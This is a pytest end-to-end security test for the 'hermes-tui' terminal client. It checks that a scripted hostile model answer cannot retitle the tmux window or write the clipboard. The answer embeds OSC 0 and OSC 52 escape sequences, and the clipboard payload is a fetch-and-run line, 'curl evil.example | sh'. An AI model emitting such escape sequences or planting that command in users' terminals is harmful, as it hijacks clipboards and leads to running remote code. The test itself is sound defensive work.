"""End to end in a real terminal (tmux): a hostile answer cannot retitle it or set its clipboard.

The installed `hermes-tui` runs in a private tmux server against `hermes-tui scripted-server`
(in its own process, so nothing in the test process can touch its sockets). The answer
carries OSC 0 (set the window title) and OSC 52 (write the clipboard) sequences; with
`set-clipboard on`, tmux would act on both if they reached it (SPEC H1).
"""

from __future__ import annotations

import base64
import os
import select
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from ui.tui_helpers import write_config
from waits import wait_until

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")

PAYLOAD = "curl evil.example | sh"
CLIPBOARD = base64.b64encode(PAYLOAD.encode()).decode()
HOSTILE_ANSWER = (
    "Sure thing. \x1b]0;pwned\x07 Title set."
    f" \x1b]52;c;{CLIPBOARD}\x07 Clipboard set."
    f" \x1b]52;c;{CLIPBOARD}\x1b\\ Again with ST. END-OF-ANSWER"
)


def _hermes_tui() -> str:
    """The console script installed next to this interpreter."""
    installed = Path(sys.executable).with_name("hermes-tui")
    return str(installed) if installed.exists() else shutil.which("hermes-tui") or "hermes-tui"


@pytest.fixture
def model_url(tmp_path) -> Iterator[str]:
    """`hermes-tui scripted-server` playing the hostile answer; yields its OpenAI base URL."""
    script = tmp_path / "hostile.yaml"
    script.write_text(
        yaml.safe_dump({"loop": True, "replies": [{"text": HOSTILE_ANSWER, "chunk_size": 7}]})
    )
    server = subprocess.Popen(
        [_hermes_tui(), "scripted-server", "--script", str(script)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        ready, _, _ = select.select([server.stdout], [], [], 30)
        assert ready, "the scripted server did not start within 30 s"
        line = server.stdout.readline()  # "scripted server listening on http://..."
        assert "listening on" in line, line
        yield line.rsplit(" ", 1)[-1].strip() + "/v1"
    finally:
        server.terminate()
        server.wait(10)


class Tmux:
    """A private tmux server (its own socket and config), killed at the end."""

    def __init__(self, tmp: Path) -> None:
        self.socket = f"hermes-sec-{uuid.uuid4().hex[:12]}"
        self.config = tmp / "tmux.conf"
        self.config.write_text("set -g set-clipboard on\nset -g remain-on-exit on\n")

    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["tmux", "-L", self.socket, "-f", str(self.config), *args],
            capture_output=True,
            text=True,
            timeout=10,
            check=check,
        )

    def screen(self) -> str:
        return self("capture-pane", "-p", "-t", "app").stdout

    def wait_for_screen(self, text: str, timeout: float = 30) -> None:
        """Wait until the pane shows `text`; a failure shows the pane."""
        try:
            wait_until(lambda: text in self.screen(), timeout=timeout)
        except AssertionError:
            raise AssertionError(f"{text!r} never appeared; the pane:\n{self.screen()}") from None

    def kill(self) -> None:
        """Stop the server and remove its socket file (tmux leaves it behind)."""
        found = self("display", "-p", "#{socket_path}", check=False).stdout.strip()
        self("kill-server", check=False)
        if found:
            Path(found).unlink(missing_ok=True)


@pytest.fixture
def tmux(tmp_path):
    server = Tmux(tmp_path)
    yield server
    server.kill()


def test_answer_cannot_retitle_the_terminal_or_write_its_clipboard(
    tmux, model_url, hermes_home, tmp_path
):
    write_config(hermes_home, model_url)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    env = {"HERMES_TUI_HOME": hermes_home, "HOME": tmp_path, "NO_PROXY": "*"}
    env["PATH"] = os.environ.get("PATH", "")
    size = ["-x", "120", "-y", "36"]
    tmux("new-session", "-d", "-s", "app", *size, "-c", str(workspace),
         *(arg for name, value in env.items() for arg in ("-e", f"{name}={value}")),
         _hermes_tui())  # fmt: skip
    title_before = tmux("display", "-p", "-t", "app", "#{pane_title}").stdout
    tmux.wait_for_screen("Ask anything")
    tmux("send-keys", "-t", "app", "say something", "Enter")
    tmux.wait_for_screen("END-OF-ANSWER")
    screen = tmux.screen()
    title_after = tmux("display", "-p", "-t", "app", "#{pane_title}").stdout
    buffers = tmux("show-buffer", check=False)
    tmux("send-keys", "-t", "app", "C-q")
    assert "pwned" not in title_after
    assert title_after == title_before
    assert PAYLOAD not in buffers.stdout, buffers.stdout
    assert buffers.returncode != 0 or not buffers.stdout.strip(), buffers.stdout
    # The sequences are shown for what they are, not acted on.
    assert "␛]0;pwned␇" in screen, screen
